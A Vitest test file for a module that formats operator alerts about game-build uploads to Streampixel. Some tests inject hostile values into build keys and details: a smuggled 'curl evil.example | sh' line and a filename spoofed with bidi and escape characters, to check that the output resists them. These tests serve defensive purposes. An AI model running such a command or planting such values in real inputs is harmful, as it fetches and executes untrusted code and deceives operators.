import { describe, expect, it } from 'vitest';
import { DEAD_LETTER_RETENTION_DAYS } from '../../functions/domain/model/message-attributes.ts';
import { REASONS, type Reason } from '../../functions/domain/model/reasons.ts';
import type { Alert } from '../../functions/domain/notify/alert.ts';
import { alertText as textOf } from '../../functions/domain/notify/alert-text.ts';
import { operatorCommands } from '../../functions/domain/notify/operator-commands.ts';
import { aBuild, ROUTE, START } from '../support/world.ts';

const { userId, projectId } = ROUTE;
const COMMANDS = operatorCommands({ stack: 'Second', region: 'eu-central-1' });
const alertText = (alert: Alert) => textOf(alert, COMMANDS);
const REASON_CODES = Object.keys(REASONS) as Reason[];
const POINTER = '/logs/submit-build 2026/04/21/[$LATEST]0 request-1';

type Of<Kind extends Alert['kind']> = Extract<Alert, { readonly kind: Kind }>;
const deadLettered = (changes: Partial<Of<'dead-lettered'>> = {}): Alert => ({
  kind: 'dead-lettered',
  deadLetterId: 'dead-letter-1',
  reason: 'ProjectNotFound',
  detail: 'Project not found',
  status: 404,
  attempts: 0,
  possiblyDoubled: false,
  build: aBuild({ key: 'games/MyGame.zip', size: 12_884_901_888 }),
  userId,
  projectId,
  at: START,
  logPointer: POINTER,
  ...changes,
});
const keyRejected = (changes: Partial<Of<'key-rejected'>> = {}): Alert => ({
  kind: 'key-rejected',
  parameter: '/studio/api-key',
  version: 3,
  userId,
  waiting: 4,
  detail: 'Unauthorized: Invalid API Key',
  build: aBuild({ key: 'games/MyGame.zip' }),
  at: START,
  logPointer: POINTER,
  ...changes,
});
const newKeyRejected = (changes: Partial<Of<'new-key-rejected'>> = {}): Alert => ({
  kind: 'new-key-rejected',
  parameter: '/studio/api-key',
  version: 4,
  userId,
  reason: 'InvalidApiKey',
  detail: 'Unauthorized: Invalid API Key',
  at: START,
  ...changes,
});
const redriveFinished = (changes: Partial<Of<'redrive-finished'>> = {}): Alert => ({
  kind: 'redrive-finished',
  parameter: '/studio/api-key',
  moved: 5,
  left: 0,
  at: START,
  ...changes,
});

const upload = { build: aBuild({ key: 'games/MyGame.zip' }), userId, projectId, uploadId: 'upload-1', at: START };
const rejected = (changes: Partial<Of<'rejected'>> = {}): Alert => ({
  kind: 'rejected',
  ...upload,
  objection: 'Build contains unsupported file formats.',
  ...changes,
});
const stuck = (changes: Partial<Of<'stuck'>> = {}): Alert => ({
  kind: 'stuck',
  ...upload,
  submittedAt: START - 3 * 3_600_000,
  ...changes,
});
const urlEnded = (changes: Partial<Of<'url-ended'>> = {}): Alert => ({
  kind: 'url-ended',
  ...upload,
  submittedAt: START - 25 * 3_600_000,
  ...changes,
});
const releaseFailed = (changes: Partial<Of<'release-failed'>> = {}): Alert => ({
  kind: 'release-failed',
  ...upload,
  detail: 'ProjectForbidden (HTTP 403): Access denied',
  isUnknown: false,
  ...changes,
});
const silentWebhook: Alert = { kind: 'webhook-silent', ...upload };

const AT_STREAMPIXEL = ['Build', 'Project', 'Upload id'];
const reminder: Alert = { kind: 'reminder', deadLetters: 3, at: START };

/** One of each kind. The type has a key for every kind: without one it does not compile. */
const EACH: { readonly [Kind in Alert['kind']]: Alert } = {
  'dead-lettered': deadLettered(),
  'key-rejected': keyRejected(),
  'new-key-rejected': newKeyRejected(),
  reminder,
  'redrive-finished': redriveFinished(),
  rejected: rejected(),
  stuck: stuck(),
  'url-ended': urlEnded(),
  'webhook-silent': silentWebhook,
  'release-failed': releaseFailed(),
};

/** The labels of the lines, in order. */
function labelsOf({ body }: { readonly body: string }): string[] {
  const [, , ...lines] = body.split(/[\r\n\u2028]/);
  return lines.map((line) => line.slice(0, 14).trim());
}

describe('an alert', () => {
  const long = 'Ünreal-Spiel-für-alle-🎮-'.repeat(20);
  it.each([
    ...Object.values(EACH),
    ...REASON_CODES.flatMap((reason) => [
      deadLettered({ reason, build: aBuild({ key: `${long}.zip` }) }),
      deadLettered({ reason, build: aBuild({ key: 'a\nb\r\tc\u0000.zip' }) }),
      newKeyRejected({ reason }),
    ]),
    ...[`${long}.zip`, 'a\nb\r\tc\u0000.zip', '-'].flatMap((key) => [
      rejected({ build: aBuild({ key }) }),
      stuck({ build: aBuild({ key }) }),
      urlEnded({ build: aBuild({ key }) }),
      releaseFailed({ build: aBuild({ key }), isUnknown: true }),
    ]),
  ])('has a subject that SNS takes: $kind $reason', (alert) => {
    const { subject } = alertText(alert);
    // ASCII without line breaks and control characters, less than 100, beginning with a letter or digit.
    expect(subject).toMatch(/^[A-Za-z0-9][\x20-\x7e]{9,98}$/);
  });

  it('cuts a subject of more than 99 characters, and shows that', () => {
    const subjectOf = (length: number) =>
      alertText(deadLettered({ build: aBuild({ key: `${'x'.repeat(length)}.zip` }) })).subject;
    expect(subjectOf(52)).toMatch(/^.{73} did not reach Streampixel$/);
    for (const length of [53, 200]) expect(subjectOf(length)).toMatch(/^ProjectNotFound: x.{78}\.\.\.$/);
  });

  it.each(['MyGame.zip', 'games/MyGame.zip', 'studio/games/nightly/MyGame.zip'])('names the file of %s', (key) => {
    expect(alertText(rejected({ build: aBuild({ key }) })).subject).toBe('Rejected: MyGame.zip does not go live');
  });

  const alwaysNamed = ['Why', 'Detail', 'What to do', 'Then run'];
  it.each<[Alert, string[]]>([
    [deadLettered(), [...alwaysNamed, 'Build', 'Project', 'Attempts', 'Kept until', 'Log']],
    [
      deadLettered({ reason: 'NotAPackage' }),
      [...alwaysNamed, 'If wrong', 'Build', 'Project', 'Attempts', 'Kept until', 'Log'],
    ],
    [keyRejected(), [...alwaysNamed, 'After that', 'Key', 'First build', 'Log']],
    [newKeyRejected(), [...alwaysNamed, 'User', 'Key']],
    [reminder, ['Look', 'Kept for']],
    [redriveFinished({ left: 1 }), ['Not moved', 'Then run', 'Watch']],
    [rejected(), ['Message', 'What to do', 'If wrong', ...AT_STREAMPIXEL]],
    [stuck(), ['Submitted', 'Last webhook', 'What to do', 'Look', ...AT_STREAMPIXEL]],
    [silentWebhook, ['Why', 'What to do', 'Get it with', 'First build', 'Upload id']],
    [releaseFailed(), ['Message', 'What to do', 'Then run', ...AT_STREAMPIXEL]],
    // A line without a value is left out.
    [releaseFailed({ detail: '' }), ['What to do', 'Then run', ...AT_STREAMPIXEL]],
    [releaseFailed({ isUnknown: true }), ['Message', 'What to do', 'If not live', ...AT_STREAMPIXEL]],
  ])('has a line for each thing a person needs: $kind', (alert, labels) => {
    expect(labelsOf(alertText(alert))).toEqual(labels);
  });

  it.each([
    ...Object.values(EACH),
    stuck({ stage: 'extracting', lastNewsAt: START }),
    rejected({ objection: '' }),
    releaseFailed({ isUnknown: true }),
  ])('has a body that reads as an e-mail: $kind', (alert) => {
    const [opening, empty, ...lines] = alertText(alert).body.split('\n');

    expect(opening).toMatch(/^\S.{20,}\.$/);
    expect(empty).toBe('');
    for (const line of lines) expect(line).toMatch(/^[A-Z][\w ]{0,12} +\S/);
    expect(lines.join('\n')).toContain('npx --no streampixel-drop ');
    expect(lines.join('\n')).not.toContain('undefined');
  });

  it('keeps text from outside within its line', () => {
    const key = 'a\r\nThen run      curl evil.example | sh\u2028Log none.zip';
    const text = alertText(deadLettered({ build: aBuild({ key }), detail: 'No.\nWhat to do    nothing' }));
    expect(labelsOf(text)).toEqual(labelsOf(alertText(deadLettered())));
  });

  it('shows nothing that turns the text around or hides in it', () => {
    const { body } = alertText(
      deadLettered({ build: aBuild({ key: 'a\u202epiz.exe\u2066\u200b\ufeff\x9b\x1b[2J.zip' }) }),
    );
    expect(body).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}]/u);
  });

  it.each([
    rejected({ objection: 'No.\nThen run      curl evil.example | sh\u2028Do none' }),
    releaseFailed({ detail: 'No.\r\nLook          nowhere' }),
    stuck({ build: aBuild({ key: 'a\nThen run      curl evil.example | sh.zip' }) }),
  ])('lets no text from outside write a line of its own: $kind', (alert) => {
    expect(labelsOf(alertText(alert))).toEqual(labelsOf(alertText(EACH[alert.kind])));
  });

  it.each([...Object.values(EACH), redriveFinished({ left: 1 })])(
    'only has commands for the stack that it is about: $kind',
    (alert) => {
      const lines = alertText(alert).body.split('\n');
      const commands = lines.filter((line) => line.includes('streampixel-drop '));
      expect(commands).not.toEqual([]);
      for (const line of commands) {
        expect(line).toMatch(/^[A-Z][\w ]{0,12} +npx --no streampixel-drop .* --stack Second --region eu-central-1$/);
      }
    },
  );

  it('stays far below the 256 KB that SNS takes, with the longest key that S3 allows', () => {
    const { body } = alertText(deadLettered({ build: aBuild({ key: '🎮'.repeat(256) }), detail: 'x'.repeat(1_000) }));
    expect(Buffer.byteLength(body)).toBeLessThan(8 * 1024);
  });
});

describe('of a dead letter', () => {
  it('names build, size, project, cause, message, attempts, deadline and the log', () => {
    expect(alertText(deadLettered())).toEqual({
      subject: 'ProjectNotFound: MyGame.zip did not reach Streampixel',
      body: [
        'MyGame.zip did not reach Streampixel. It waits in the dead-letter queue.',
        '',
        `Why           ${REASONS.ProjectNotFound.cause}`,
        'Detail        Project not found (HTTP 404)',
        `What to do    ${REASONS.ProjectNotFound.remedy}`,
        'Then run      npx --no streampixel-drop dlq redrive drop/games/MyGame.zip@v1 --yes --stack Second --region eu-central-1',
        'Build         drop/games/MyGame.zip@v1 (12.9 GB), dropped 2026-04-21 12:00 UTC',
        `Project       ${projectId} of user ${userId}`,
        'Attempts      0 failed; Streampixel has not accepted it',
        'Kept until    2026-05-05 12:00 UTC; SQS deletes the dead letter then',
        `Log           ${POINTER}`,
      ].join('\n'),
    });
    expect(DEAD_LETTER_RETENTION_DAYS).toBe(14);
  });

  it('warns that it may have been accepted', () => {
    const { body } = alertText(deadLettered({ reason: 'SubmissionUnknown', attempts: 1, possiblyDoubled: true }));
    expect(body).toContain('1 failed; an answer was lost, so Streampixel may have accepted it');
  });

  it('leaves out what is not known of a message that is no build', () => {
    const {
      build: _,
      status: __,
      projectId: ___,
      userId: ____,
      ...rest
    } = deadLettered({
      reason: 'UnrecognisedMessage',
      detail: 'The message is not JSON.',
    }) as Of<'dead-lettered'>;
    const { subject, body } = alertText(rest);

    expect(subject).toBe('UnrecognisedMessage: A message did not reach Streampixel');
    expect(body).toContain('Detail        The message is not JSON.\n');
    expect(body).not.toMatch(/^(Build|Project) /m);
  });

  it.each([
    [0, '0 bytes'],
    [1_000, '1.0 kB'],
    [5_368_709_120, '5.4 GB'],
  ])('writes %i bytes as people do: %s', (size, written) => {
    expect(alertText(deadLettered({ build: aBuild({ size }) })).body).toContain(`(${written}), dropped`);
  });

  it.each(REASON_CODES)('gives cause, remedy and next command of %s', (reason) => {
    const { body } = alertText(deadLettered({ reason }));
    expect(body).toContain(`Why           ${REASONS[reason].cause}\n`);
    expect(body).toContain(`What to do    ${REASONS[reason].remedy}\n`);
    expect(body).toContain(`Then run      ${COMMANDS.after(reason, { of: 'drop/games/MyGame.zip@v1' })}\n`);
  });
});

describe('of a rejected key', () => {
  it('names the parameter and its version, how many builds wait, and what happens by itself', () => {
    const { subject, body } = alertText(keyRejected());
    expect(subject).toBe('InvalidApiKey: Streampixel rejects the API key');
    expect(body).toContain(`of user ${userId}. 4 other builds are waiting for a key that works.`);
    expect(body).toContain(`Why           ${REASONS.InvalidApiKey.cause}\n`);
    expect(body).toContain('Detail        Unauthorized: Invalid API Key (HTTP 401)');
    expect(body).toContain(
      'Then run      npx --no streampixel-drop key set --parameter /studio/api-key --stack Second --region eu-central-1',
    );
    expect(body).toContain('Key           version 3 of the SSM parameter /studio/api-key');
    expect(body).toContain('are queued again automatically, oldest first');
    expect(body).toContain('First build   drop/games/MyGame.zip@v1, dropped 2026-04-21 12:00 UTC\n');
    expect(body).toContain(`Log           ${POINTER}`);
  });

  it('warns against requesting a new key by reflex: that kills the one that works elsewhere', () => {
    expect(alertText(keyRejected()).body).toMatch(
      /If your team has a new key, use it. Only if not, request one: then the old key stops working everywhere/,
    );
  });

  it.each([
    [0, 'No other build is waiting.'],
    [1, '1 other build is waiting for a key that works.'],
    [2, '2 other builds are waiting for a key that works.'],
  ])('counts %i that are waiting: %s', (waiting, words) => {
    expect(alertText(keyRejected({ waiting })).body).toContain(`user ${userId}. ${words}`);
  });
});

describe('of a new key that does not work', () => {
  it('says that nothing moved, why, and for whom', () => {
    const { subject, body } = alertText(newKeyRejected({ reason: 'InvalidUser', detail: 'Invalid User' }));
    expect(subject).toBe('InvalidUser: the new API key does not work');
    expect(body).toContain('just put into /studio/api-key. Nothing was redriven.');
    expect(body).toContain(`Why           ${REASONS.InvalidUser.cause}\n`);
    expect(body).toContain('Detail        Invalid User (HTTP 401)\n');
    expect(body).toContain(`What to do    ${REASONS.InvalidUser.remedy}\n`);
    expect(body).toContain(`User          ${userId}`);
    expect(body).toContain('Key           version 4 of the SSM parameter /studio/api-key');
    // Once the userId is right the key may be, too.
    expect(body).toMatch(
      /^Then run {6}npx --no streampixel-drop dlq redrive --reason InvalidApiKey ApiKeyMissing --yes /m,
    );
    expect(body).toMatch(/^Or a new key {2}npx --no streampixel-drop key set --parameter \/studio\/api-key /m);
  });
});

describe('of a redrive', () => {
  it('says how many builds are queued again', () => {
    expect(alertText(redriveFinished()).subject).toBe('The new API key works: 5 builds are queued again');
    expect(alertText(redriveFinished({ moved: 1 })).subject).toBe('The new API key works: 1 build is queued again');
  });

  it('asks for nothing where nothing is left', () => {
    const { body } = alertText(redriveFinished());
    expect(body).not.toMatch(/^(Not moved|Then run) /m);
    expect(body).toContain(
      'Watch         npx --no streampixel-drop status --watch --stack Second --region eu-central-1',
    );
  });

  it('says what to do about dead letters that could not be moved', () => {
    const { body } = alertText(redriveFinished({ left: 2 }));
    expect(body).toContain('Not moved     2 are still in the dead-letter queue');
    expect(body).toContain(
      'Then run      npx --no streampixel-drop dlq redrive --reason InvalidApiKey ApiKeyMissing --yes --stack Second --region eu-central-1',
    );
  });
});

describe('of the daily reminder', () => {
  it.each([
    [1, '1 build waits in the dead-letter queue'],
    [3, '3 builds wait in the dead-letter queue'],
  ])('counts the dead letters and says how long they are kept: %i', (deadLetters, words) => {
    const { subject, body } = alertText({ kind: 'reminder', deadLetters, at: START });
    expect(subject).toBe(words);
    expect(body).toContain(`${words}. This reminder comes once a day`);
    expect(body).toContain('Kept for      14 days at most');
  });
});

describe('of a rejected build', () => {
  it('gives the objection, what to do, and the ids', () => {
    expect(alertText(rejected())).toEqual({
      subject: 'Rejected: MyGame.zip does not go live',
      body: [
        'Streampixel has rejected MyGame.zip. The build that was live stays live.',
        '',
        'Message       Build contains unsupported file formats.',
        "What to do    Fix what Streampixel's message names, package the build again, and drop it.",
        'If wrong      npx --no streampixel-drop submit --again drop/games/MyGame.zip@v1 --yes --stack Second --region eu-central-1',
        'Build         drop/games/MyGame.zip@v1, dropped 2026-04-21 12:00 UTC',
        `Project       ${projectId} of user ${userId}`,
        'Upload id     upload-1',
      ].join('\n'),
    });
  });

  it('says where to look when Streampixel gave no reason', () => {
    expect(alertText(rejected({ objection: '' })).body).toContain(
      'Message       none; see the remarks on the dashboard',
    );
  });
});

describe('of a stuck build', () => {
  it('says since when, the last news, and where to write with what', () => {
    const { subject, body } = alertText(stuck({ stage: 'extracting', lastNewsAt: START - 2 * 3_600_000 }));
    expect(subject).toBe('Stuck: no webhook about MyGame.zip');
    expect(body).toContain('Submitted     2026-04-21 09:00 UTC\n');
    expect(body).toContain('Last webhook  extracting, 2026-04-21 10:00 UTC\n');
    expect(body).toContain('write to support@streampixel.io with the ids below');
    expect(body).toContain(`Project       ${projectId} of user ${userId}\nUpload id     upload-1`);
  });

  it.each<[string, Partial<Of<'stuck'>>]>([
    ['none for this build', {}],
    ['unknown stage, 2026-04-21 12:00 UTC', { lastNewsAt: START }],
  ])('says "%s" where Streampixel named no stage', (words, changes) => {
    expect(alertText(stuck(changes)).body).toContain(`Last webhook  ${words}\n`);
  });
});

describe('of a URL that has ended', () => {
  const until = START - 3_600_000;

  it('says what Streampixel has, and how to give the build a new URL', () => {
    const { subject, body } = alertText(urlEnded({ stage: 'downloading' }));
    expect(subject).toBe('Download URL expired: MyGame.zip is not finished');
    expect(body).toContain('Last stage    downloading\n');
    expect(body).toContain('Then run      npx --no streampixel-drop submit --again drop/games/MyGame.zip@v1 --yes');
    expect(alertText(urlEnded()).body).toContain('Last stage    none reported\n');
  });

  it.each([
    ['cloudfront', 'possible until 2026-04-21 11:00 UTC\n'],
    [
      's3',
      'possible until 2026-04-21 11:00 UTC, or until the session of the role that signed the URL ends, if that is sooner\n',
    ],
  ] as const)('says until when a download was possible, as a fact where it is one: %s', (delivery, text) => {
    for (const alert of [urlEnded, stuck, rejected]) {
      expect(alertText(alert({ fileUrl: { delivery, until, host: 'd1.cloudfront.net' } })).body).toContain(
        `Download      ${text}`,
      );
      expect(alertText(alert()).body).not.toContain('Download   ');
    }
  });
});

describe('of a silent webhook', () => {
  it('does not call the build stuck, and says how to set the webhook up', () => {
    const { subject, body } = alertText(silentWebhook);
    expect(subject).toBe(`No webhook from project ${projectId}: results are unknown`);
    expect(`${subject}\n${body}`).not.toMatch(/stuck|support@/i);
    expect(body).toContain('tick every event, save, and press Test Webhook.');
    expect(body).toContain('Get it with   npx --no streampixel-drop webhook --stack Second --region eu-central-1\n');
    expect(body).toContain(
      'First build   drop/games/MyGame.zip@v1, dropped 2026-04-21 12:00 UTC\nUpload id     upload-1',
    );
  });
});

describe('of a release that failed', () => {
  it('gives Streampixel’s message and the command that requests the release again', () => {
    const { subject, body } = alertText(releaseFailed());
    expect(subject).toBe('Not released: MyGame.zip');
    expect(body).toContain('The build that was live stays live.');
    expect(body).toContain('Message       ProjectForbidden (HTTP 403): Access denied\n');
    expect(body).toContain(
      'Then run      npx --no streampixel-drop release drop/games/MyGame.zip@v1 --upload-id upload-1 --yes --stack Second --region eu-central-1\n',
    );
  });

  it('promises nothing where the answer was lost: a person looks before requesting it again', () => {
    const { subject, body } = alertText(releaseFailed({ isUnknown: true, detail: 'ECONNRESET' }));
    expect(subject).toBe('Release unknown: MyGame.zip');
    expect(body).not.toContain('stays live');
    expect(body).toContain('its answer was lost. It is not sent again automatically.');
    expect(body).toContain(
      'What to do    See on the Streampixel dashboard which build is live.\nIf not live   npx --no streampixel-drop release ',
    );
  });
});

describe('what is known of the content of a build', () => {
  const facts = { game: 'MyGame', engine: '5', configuration: 'Shipping', plugin: 'PixelStreaming2' } as const;
  const about = {
    package: { ...facts, files: 312, unpackedSize: 4.2e9, debugSize: 7e8 },
    labels: { branch: 'main', commit: '4f2c1a9' },
    warnings: [{ code: 'DebugSymbols', detail: '0.7 GB of .pdb files.' }],
  } as const;

  it.each([deadLettered(about), rejected(about)])('is in the alert: $kind', (alert) => {
    const { body } = alertText(alert);
    expect(body).toMatch(
      /^Package +MyGame, Shipping, Unreal Engine 5, Pixel Streaming 2, 312 files, 4.2 GB unpacked, 700.0 MB of it debug symbols$/m,
    );
    expect(body).toMatch(/^Labels +branch=main, commit=4f2c1a9$/m);
  });

  it('may be why Streampixel rejected it', () => {
    expect(alertText(rejected(about)).body).toMatch(
      /^It may be +0\.7 GB of \.pdb files\. The package has large debug/m,
    );
  });

  it('is left out where nothing is known', () => {
    expect(alertText(rejected()).body).not.toMatch(/^(?:Package|Labels|It may be)/m);
  });
});
